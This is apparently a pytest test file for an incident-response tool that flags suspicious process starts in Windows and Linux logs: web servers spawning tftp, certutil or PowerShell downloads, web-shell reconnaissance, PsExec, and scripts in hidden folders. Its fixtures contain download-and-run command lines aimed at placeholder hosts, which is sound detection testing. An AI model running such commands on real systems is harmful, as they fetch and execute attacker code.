"""Rules about process starts in logs."""

from __future__ import annotations

import pytest

from responder.analysis.settings import Settings
from responder.model.finding import Confidence, Severity, Stage
from tests.responder.analysis.conftest import (
    LINUX,
    WINDOWS_10,
    WINDOWS_2000,
    at,
    change,
    event,
    finish,
    listener,
    ref,
    running,
    start,
)

ADDRESS = 0x8120_0000
INETINFO = "\\WINNT\\System32\\inetsrv\\inetinfo.exe"


def night(*, learn=200):
    """A web server's log of Windows 2000: address-like ids, no drive letters, no command lines, exits without image."""
    rows = [start(1, INETINFO, at(-learn), pid=ADDRESS, parent=8, user_name="SYSTEM")]
    for n in range(20):
        pid = ADDRESS + 0x1000
        rows.append(
            start(
                10 + 2 * n, "\\Perl\\bin\\perl.exe", at(-learn + n * 8), pid=pid, parent=ADDRESS, user_name="IUSR_SRV1"
            )
        )
        rows.append(finish(11 + 2 * n, at(-learn + n * 8, 2), pid=pid))
    return rows


def infection():
    return [
        start(100, "\\WINNT\\System32\\tftp.exe", at(1, 6), pid=ADDRESS + 0x20, parent=ADDRESS, user_name="SYSTEM"),
        finish(101, at(1, 12), pid=ADDRESS + 0x20),
        start(102, "\\WINNT\\System32\\Msbb.exe", at(1, 13), pid=ADDRESS + 0x20, parent=ADDRESS, user_name="SYSTEM"),
    ]


def test_download_tool_started_by_the_web_server(lab):
    (found,) = lab.findings("process.download_tool", {"log": [*night(), *infection()]}, (WINDOWS_2000,))
    assert found.title == "tftp.exe started by inetinfo.exe: a download"
    assert found.severity is Severity.HIGH
    assert found.confidence is Confidence.HIGH
    assert found.stage is Stage.DOWNLOAD
    assert found.first_seen == at(1, 6)
    assert found.evidence[0].value == 100
    assert found.facts["parent"] == "inetinfo.exe"
    assert "It ended after 6 s" in found.why


def test_download_tool_whose_parent_is_only_a_number(lab):
    rows = [start(1, "\\WINNT\\System32\\tftp.exe", at(1), pid=ADDRESS, parent=ADDRESS + 32, user_name="SYSTEM")]
    (found,) = lab.findings("process.download_tool", {"log": rows}, (WINDOWS_2000,))
    assert found.severity is Severity.MEDIUM
    assert f"process {ADDRESS + 32} (its start is not in this log)" in found.title
    assert found.facts["parent"] is None


def test_reused_process_id_is_not_the_parent(lab):
    rows = [
        start(1, INETINFO, at(0), pid=500, parent=8),
        finish(2, at(1), pid=500),
        start(3, "\\WINNT\\explorer.exe", at(2), pid=500, parent=8),
        start(4, "\\WINNT\\System32\\ftp.exe", at(3), pid=600, parent=500, user_name="Bob"),
    ]
    (found,) = lab.findings("process.download_tool", {"log": rows}, (WINDOWS_2000,))
    assert found.facts["parent"] == "explorer.exe"
    assert found.severity <= Severity.LOW


@pytest.mark.parametrize(
    ("path", "line", "severity"),
    [
        ("C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -split -f http://x/a.exe", Severity.HIGH),
        ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell IEX(New-Object Net.WebClient)", Severity.HIGH),
        ("C:\\Windows\\System32\\curl.exe", "curl -O http://x/a", Severity.HIGH),
    ],
)  # fmt: skip
def test_download_beneath_a_web_server_through_a_shell(lab, path, line, severity):
    rows = [
        start(1, "C:\\Windows\\System32\\inetsrv\\w3wp.exe", at(0), pid=10, parent=1),
        start(2, "C:\\Windows\\System32\\cmd.exe", at(1), pid=11, parent=10),
        start(3, path, at(1, 1), pid=12, parent=11, process_command_line=line),
    ]
    (found,) = lab.findings("process.download_tool", {"log": rows})
    assert found.severity is severity
    assert "through other programs by w3wp.exe" in found.why


def test_certutil_and_powershell_without_download_words_are_none(lab):
    rows = [
        start(1, "C:\\Windows\\System32\\certutil.exe", at(0), pid=1, process_command_line="certutil -store my"),
        start(2, "C:\\Windows\\System32\\powershell.exe", at(0), pid=2, process_command_line="powershell Get-Service"),
    ]
    assert lab.findings("process.download_tool", {"log": rows}) == []


def test_linux_package_manager_and_administrator_fetch_quietly(lab):
    rows = [
        start(1, "/usr/bin/apt-get", at(0), pid=10, user_name="root"),
        start(2, "/usr/bin/wget", at(0), pid=11, parent=10, user_name="root", process_command_line="wget http://x"),
        start(3, "/usr/bin/curl", at(1), pid=12, user_name="alice", process_command_line="curl http://x"),
    ]
    assert lab.loud({"log": rows}, (LINUX,)) == []


def test_linux_web_account_fetches(lab):
    rows = [start(1, "/usr/bin/wget", at(0), pid=11, user_name="www-data", process_command_line="wget http://x/a.tgz")]
    (found,) = lab.findings("process.download_tool", {"log": rows}, (LINUX,))
    assert found.severity is Severity.HIGH
    assert "service account www-data" in found.why


def test_child_of_the_web_server(lab):
    found = lab.findings("process.server_child", {"log": [*night(), *infection()]}, (WINDOWS_2000,))
    assert [f.facts["process"] for f in found] == ["Msbb.exe"]  # neither the CGI interpreter nor the download
    assert found[0].severity is Severity.HIGH


def test_web_shell(lab):
    rows = [start(1, "C:\\Windows\\System32\\inetsrv\\w3wp.exe", at(0), pid=10)]
    for n, tool in enumerate(("whoami", "ipconfig", "net")):
        rows.append(start(5 + n, f"C:\\Windows\\System32\\{tool}.exe", at(1, n), pid=20 + n, parent=10))
    found = lab.findings("process.server_child", {"log": rows})
    assert sorted(f.facts["process"] for f in found) == ["ipconfig.exe", "net.exe", "whoami.exe"]
    assert {(f.severity, f.stage) for f in found} == {(Severity.HIGH, Stage.ATTACK)}


def test_what_the_application_does_all_day_is_weighed_low(lab):
    rows = [start(1, "C:\\Windows\\System32\\inetsrv\\w3wp.exe", at(0), pid=10)]
    rows += [start(10 + n, "C:\\Windows\\System32\\cmd.exe", at(n), pid=100 + n, parent=10) for n in range(30)]
    (found,) = lab.findings("process.server_child", {"log": rows})
    assert found.severity is Severity.LOW
    assert "so often" in found.why


def test_first_seen_program_soon_after_a_download(lab):
    (found,) = lab.findings("process.first_seen", {"log": [*night(), *infection()]}, (WINDOWS_2000,))
    assert found.facts["process"] == "Msbb.exe"
    assert found.first_seen == at(1, 13)
    assert "7 s after tftp.exe" in found.title
    assert found.facts["without_exit"] == 1


def test_first_seen_needs_a_learning_part(lab):
    assert lab.findings("process.first_seen", {"log": [*night(learn=60), *infection()]}, (WINDOWS_2000,)) == []
    short = Settings(learning_minutes=30)
    assert (
        len(lab.findings("process.first_seen", {"log": [*night(learn=60), *infection()]}, (WINDOWS_2000,), short)) == 1
    )


def test_first_seen_without_corroboration_is_one_quiet_line(lab):
    rows = night()
    rows += [
        start(200 + n, f"\\Program Files\\Tool{n}\\tool{n}.exe", at(5 + n), pid=900 + n, user_name="Bob")
        for n in range(30)
    ]
    rows += [start(300, "\\WINNT\\System32\\notepad.exe", at(9), pid=990, user_name="Bob")]
    (found,) = lab.findings("process.first_seen", {"log": rows}, (WINDOWS_2000,))
    assert found.severity is Severity.LOW
    assert found.facts["count"] == 30
    assert lab.loud({"log": rows}, (WINDOWS_2000,)) == []


def test_remote_execution_with_all_that_ran_beneath_it(lab):
    system = "C:\\WINDOWS\\system32\\"
    rows = [
        start(1, "C:\\WINDOWS\\PSEXESVC.EXE", at(0), pid=1904, parent=488),
        start(2, f"{system}cmd.exe", at(0, 2), pid=1920, parent=1904),
        start(3, f"{system}net.exe", at(0, 4), pid=1936, parent=1920),
        start(4, f"{system}at.exe", at(0, 9), pid=2004, parent=1920),
        start(5, f"{system}notepad.exe", at(1), pid=2100, parent=1500),
    ]
    (found,) = lab.findings("process.remote_execution", {"log": rows})
    assert found.facts["children"] == ["cmd.exe", "net.exe", "at.exe"]
    assert found.facts["persistence"] == ["at.exe", "net.exe"]
    assert found.severity is Severity.HIGH
    assert len(found.evidence) == 4


def test_remote_powershell_is_ordinary(lab):
    assert lab.loud({"log": [start(1, "C:\\Windows\\System32\\wsmprovhost.exe", at(0), pid=9)]}) == []


def test_script_in_a_hidden_folder(lab):
    rows = [
        running(1, "perl", 8101, user_name="apache", process_command_line="perl /var/tmp/.a/send.pl 3.txt"),
        running(2, "perl", 8102, user_name="root", process_command_line="perl /usr/share/munin/node.pl"),
    ]
    (found,) = lab.findings("process.odd_script", {"ps": rows}, (LINUX,))
    assert found.facts["script"] == "/var/tmp/.a/send.pl"
    assert found.severity is Severity.HIGH


def test_devices_hold_no_scripts_but_shared_memory_does(lab):
    lines = ["bash /dev/fd/63", "sh -c x > /dev/null", "bash /dev/shm/.k/run"]
    rows = [running(n, "bash", 10 + n, process_command_line=line) for n, line in enumerate(lines, 1)]
    (found,) = lab.findings("process.odd_script", {"ps": rows}, (LINUX,))
    assert found.facts["script"] == "/dev/shm/.k/run"


def test_a_dump_file_is_no_script(lab):
    rows = [running(1, "cmd.exe", 1, process_command_line="cmd /c type C:\\Windows\\Temp\\a.log")]
    assert lab.findings("process.odd_script", {"ps": rows}) == []


def test_started_not_ended_and_not_listed(lab):
    log = [
        start(1, "C:\\Tools\\hidden.exe", at(0), pid=700),
        start(2, "C:\\Windows\\System32\\notepad.exe", at(0), pid=701),
        start(3, "C:\\Windows\\System32\\cmd.exe", at(1), pid=702),
        finish(4, at(2), pid=702),
    ]
    (found,) = lab.findings("process.vanished", {"log": log, "ps": [running(1, "notepad.exe", 701)]})
    assert found.facts["process"] == "hidden.exe"
    # A log without exits cannot say that one is missing, and a port tool is no process list.
    assert lab.findings("process.vanished", {"log": log[:3], "ps": [running(1, "notepad.exe", 701)]}) == []
    assert lab.findings("process.vanished", {"log": log, "net": [listener(1, 80, "notepad.exe")]}) == []


def test_one_start_in_two_logs_counts_once(lab):
    path = "C:\\Windows\\System32\\tftp.exe"
    one = [start(1, path, at(1), pid=900, parent=10)]
    two = [start(9, path, at(1, 1), pid=900, parent=10, process_command_line="tftp -i 203.0.113.1 GET a.exe")]
    (found,) = lab.findings("process.download_tool", {"sec": one, "sysmon": two})
    assert found.facts["starts"] == 1
    assert found.facts["command_line"] == "tftp -i 203.0.113.1 GET a.exe"


def test_services_installed(lab):
    rows = [
        event(
            1, "service installed", at(1), service_name="BTOBTO", target="%COMSPEC% /C echo cd ^> \\\\127.0.0.1\\C$\\x"
        ),
        event(2, "service installed", at(2), service_name="upd", target="C:\\Windows\\Temp\\upd.exe"),
        event(3, "service installed", at(3), service_name="PSEXESVC", target="%SystemRoot%\\PSEXESVC.exe"),
        event(4, "service installed", at(4), service_name="PSEXESVC", target="%SystemRoot%\\PSEXESVC.exe"),
        event(5, "service installed", at(5), service_name="Spooler2", target='"C:\\Program Files\\P\\p.exe" -s'),
    ]
    found = {f.facts.get("name", "rest"): f for f in lab.findings("service.installed", {"log": rows})}
    assert {name: f.severity for name, f in found.items()} == {
        "BTOBTO": Severity.HIGH, "upd": Severity.HIGH, "PSEXESVC": Severity.MEDIUM, "rest": Severity.INFO,
    }  # fmt: skip
    assert found["PSEXESVC"].facts["installed"] == 2


def test_corroboration_needs_independent_sources(lab):
    log = [*night(), *infection()]
    net = [listener(1, 5190, "Msbb.exe", process_path="C:\\WINNT\\System32\\Msbb.exe")]
    fim = [change(1, "added", "C:\\WINNT\\System32\\Msbb.exe")]
    (found,) = lab.findings("story.corroborated", {"log": log, "net": net, "fim": fim}, (WINDOWS_2000,))
    assert found.facts["sources"] == ["integrity report", "log", "socket table"]
    assert found.facts["source_count"] == 3
    assert found.first_seen == at(1, 13)
    assert found.severity is Severity.CRITICAL
    assert set(found.evidence) == {ref("log", 102, found.evidence[0].kind), ref("net", 1), ref("fim", 1)}
    (two,) = lab.findings("story.corroborated", {"log": log, "net": net}, (WINDOWS_2000,))
    assert two.facts["source_count"] == 2
    assert lab.findings("story.corroborated", {"log": log}, (WINDOWS_2000,)) == []


def test_known_programs_seen_everywhere_are_no_corroboration(lab):
    path = "C:\\Windows\\System32\\svchost.exe"
    records = {
        "log": [start(1, path, at(1), pid=700, parent=600)],
        "net": [listener(1, 135, "svchost.exe", process_path=path, process_pid=700)],
        "ps": [running(1, "svchost.exe", 700, process_path=path)],
    }
    assert lab.loud(records, (WINDOWS_10,)) == []


def test_connection_limit(lab):
    rows = [event(n, "connection limit reached", at(n)) for n in range(3)]
    (found,) = lab.findings("network.connection_limit", {"log": rows})
    assert found.severity is Severity.MEDIUM
    apart = [event(n, "connection limit reached", at(n * 600)) for n in range(4)]
    (found,) = lab.findings("network.connection_limit", {"log": apart})
    assert found.severity is Severity.LOW
